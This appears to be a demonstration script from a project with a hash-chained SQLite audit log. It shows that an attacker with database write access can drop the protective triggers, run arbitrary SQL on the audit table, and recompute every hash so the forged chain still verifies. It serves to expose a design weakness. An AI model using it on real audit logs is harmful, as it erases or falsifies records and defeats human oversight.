#!/usr/bin/env python3
# SPDX-License-Identifier: LGPL-2.1-or-later
# What an attacker with write access to the database can do without any key:
# run SQL on the audit table (triggers dropped), then recompute every
# prev_hash and hash (auditchain.h: SHA-256(prev || canonical record)), so
# that the chain alone verifies again.
#   audit_rewrite.py DB "UPDATE audit SET actor = 'nobody' WHERE seq = 3"
import hashlib
import json
import sqlite3
import sys

db = sqlite3.connect(sys.argv[1])
db.executescript("DROP TRIGGER IF EXISTS audit_no_update; DROP TRIGGER IF EXISTS audit_no_delete;")
db.executescript(sys.argv[2])
prev = bytes(32)
for seq, t, actor, action, node, details in db.execute(
        "SELECT seq, time, actor, action, node, details FROM audit ORDER BY seq").fetchall():
    canon = json.dumps([seq, t, actor, action, node, details], separators=(",", ":"),
                       ensure_ascii=False)
    h = hashlib.sha256(prev + canon.encode()).digest()
    db.execute("UPDATE audit SET prev_hash = ?, hash = ? WHERE seq = ?", (prev.hex(), h.hex(), seq))
    prev = h
db.commit()
